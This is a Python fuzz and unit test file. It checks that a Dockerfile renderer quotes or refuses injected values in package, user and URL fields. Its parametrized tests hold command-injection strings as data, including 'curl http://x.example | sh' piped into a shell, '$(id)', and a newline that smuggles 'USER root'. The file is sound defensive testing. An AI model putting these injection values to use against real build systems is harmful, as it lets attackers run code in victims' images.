"""Defence in depth: a value that slipped past every matrix check still cannot add a Dockerfile instruction,
a shell command or an option. Random strings go straight into each template field that renders text from
matrix.yaml (settings built without validation), and the Dockerfile must parse (dockerfile-parse) to the
same instruction list as the shipped one, keep each value as exactly one shell word where a shell reads it,
and stay at 0 hadolint findings -- or the render is refused for a reason a quote cannot fix."""

from __future__ import annotations

import dataclasses
import io
import subprocess
import sys
from pathlib import Path

import pytest
from dockerfile_parse import DockerfileParser
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from conftest import examples
from gpuforge import grammar
from gpuforge.errors import ConfigError
from gpuforge.plan.matrix import load_matrix
from gpuforge.render import dockerfile as render

ROOT = Path(__file__).resolve().parents[3]
TARGETS = {t.source: t for t in load_matrix(ROOT / "matrix.yaml").targets}  # one wheels, one cuda-base target
FIELDS = ("apt_packages", "pip_packages", "user", "pypi_url", "index_url", "base_image")
SHELL_FIELDS = ("apt_packages", "pip_packages", "user")  # a shell reads these from a RUN line
HADOLINT = Path(sys.executable).parent / "hadolint"

# Any text: control characters, line and paragraph separators, quotes, $, backslashes, non-ASCII.
text = st.text(st.characters(codec="utf-8"), max_size=30) | st.sampled_from(
    ["vim\nRUN id", "a\rb", "$(id)", "`id`", "x'y", 'q"r', "\\", "a\\", "-o", "--index-url=x", "#c", "a b", "\u2028", "; id #"])


def _render(t, field: str, value: str) -> str:
    if field == "base_image":
        t = dataclasses.replace(t, base_image=value)
    else:
        v = [value] if field.endswith("_packages") else value
        t = dataclasses.replace(t, settings=t.settings.model_copy(update={field: v}))  # no validation
    return render.render_target(t)["Dockerfile"].decode()


def _instructions(dockerfile: str) -> list[dict]:
    return DockerfileParser(fileobj=io.BytesIO(dockerfile.encode())).structure


def _bash_words(command: str) -> list[str]:
    """Words as bash reads them (quotes and escapes only; nothing is run): in double quotes a backslash
    escapes only $ ` " \\ and newline (shlex keeps it before $ and `, so it cannot stand in)."""
    words: list[str] = []
    cur: list[str] | None = None
    i = 0
    while i < len(command):
        c = command[i]
        if c in " \t\n":
            if cur is not None:
                words.append("".join(cur))
            cur = None
        else:
            cur = cur if cur is not None else []
            if c == "'":
                j = command.index("'", i + 1)
                cur.append(command[i + 1:j])
                i = j
            elif c == '"':
                i += 1
                while command[i] != '"':
                    if command[i] == "\\" and command[i + 1] in '$`"\\\n':
                        i += 1
                    cur.append(command[i])
                    i += 1
            elif c == "\\":
                i += 1
                cur.append(command[i])
            else:
                cur.append(c)
        i += 1
    if cur is not None:
        words.append("".join(cur))
    return words


def _why_refused(field: str, value: str) -> str | None:
    """The reasons a quote cannot fix: a line break or control character (ends the instruction), an option
    where a shell reads words, a backslash in a Dockerfile value (parsers disagree on it)."""
    if grammar.printable(value):
        return "control character"
    if field in SHELL_FIELDS and value.startswith("-"):
        return "option"
    if field in ("user", "pypi_url", "index_url") and "\\" in value:
        return "backslash"
    return None


@pytest.mark.parametrize("source", sorted(TARGETS))
def test_shipped_dockerfiles_parse_and_lint_clean(tmp_path, source):
    df = render.render_target(TARGETS[source])["Dockerfile"].decode()
    assert [i["instruction"] for i in _instructions(df) if i["instruction"] != "COMMENT"][:2] == ["FROM", "SHELL"]
    (tmp_path / "Dockerfile").write_text(df)
    r = subprocess.run([str(HADOLINT), "--no-color", "--config", str(ROOT / ".hadolint.yaml"), "Dockerfile"],
                       cwd=tmp_path, capture_output=True, text=True)
    assert r.returncode == 0 and not r.stdout.strip(), r.stdout


# No shrinking: a failing batch is reported whole (shrinking 20 renders + hadolint takes minutes).
@settings(max_examples=examples(15), phases=[Phase.explicit, Phase.reuse, Phase.generate], suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(batch=st.lists(st.tuples(st.sampled_from(sorted(TARGETS)), st.sampled_from(FIELDS), text), min_size=20, max_size=20))
# found by this test in one run: a bare `then` made hadolint report SC1010 (reserved words are quoted now)
@example(batch=[(sorted(TARGETS)[0], f, w) for f in ("pip_packages", "apt_packages") for w in ("then", "fi", "done", "esac")])
def test_random_text_cannot_add_instructions_or_shell_words(tmp_path_factory, batch):
    out = tmp_path_factory.mktemp("fuzz")
    written = []
    for n, (source, field, value) in enumerate(batch):
        t = TARGETS[source]
        baseline = [i["instruction"] for i in _instructions(render.render_target(t)["Dockerfile"].decode())]
        try:
            df = _render(t, field, value)
        except ConfigError as e:
            assert _why_refused(field, value) or field == "base_image", f"{field}={value!r} refused without cause: {e}"
            continue
        assert _why_refused(field, value) is None or field == "base_image", f"{field}={value!r} rendered"
        got = _instructions(df)
        assert [i["instruction"] for i in got] == baseline, f"{field}={value!r} changed the instructions"
        if field in SHELL_FIELDS:
            runs = [i["value"] for i in got if i["instruction"] == "RUN"]
            assert any(value in _bash_words(r) for r in runs), f"{field}={value!r} is not one shell word:\n{runs}"
        f = out / f"{n}.Dockerfile"
        f.write_text(df)
        written.append((f.name, field, value))
    if written:
        r = subprocess.run([str(HADOLINT), "--no-color", "--config", str(ROOT / ".hadolint.yaml"), *(w[0] for w in written)],
                           cwd=out, capture_output=True, text=True)
        assert r.returncode == 0, "\n".join([r.stdout[-3000:], *(f"{w[0]}: {w[1]}={w[2]!r}" for w in written)])


@pytest.mark.parametrize(("field", "value"), [
    ("apt_packages", "vim; curl http://x.example | sh #"),
    ("pip_packages", "rich>=1; python_version < '4' and $(id)"),
    ("user", "a b; id"),
    ("pypi_url", "https://x.example/simple $HOME"),
])
def test_hostile_values_that_slip_past_render_quoted(field, value):
    """The specific shell injections, rendered directly: quoted, so nothing runs."""
    df = _render(TARGETS["wheels"], field, value)
    assert [i["instruction"] for i in _instructions(df)] == [
        i["instruction"] for i in _instructions(render.render_target(TARGETS["wheels"])["Dockerfile"].decode())]
    if field in SHELL_FIELDS:
        assert any(value in _bash_words(i["value"]) for i in _instructions(df) if i["instruction"] == "RUN")


@pytest.mark.parametrize("value", ["vim\nRUN curl http://x.example | sh", "x\r\nUSER root", "a\u2028b", "--force-yes"])
def test_line_breaks_and_options_are_refused(value):
    with pytest.raises(ConfigError, match="refusing to render"):
        _render(TARGETS["wheels"], "apt_packages", value)
